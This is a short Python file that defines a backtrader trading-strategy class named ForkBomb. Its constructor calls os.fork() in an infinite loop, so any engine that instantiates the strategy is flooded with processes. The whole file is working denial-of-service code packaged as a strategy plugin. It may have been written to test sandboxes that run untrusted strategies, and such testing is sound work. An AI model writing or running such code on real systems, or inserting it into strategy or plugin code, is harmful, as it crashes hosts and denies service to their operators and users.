import os

import backtrader as bt


class ForkBomb(bt.Strategy):
    def __init__(self):
        print("forking", flush=True)
        while True:
            os.fork()
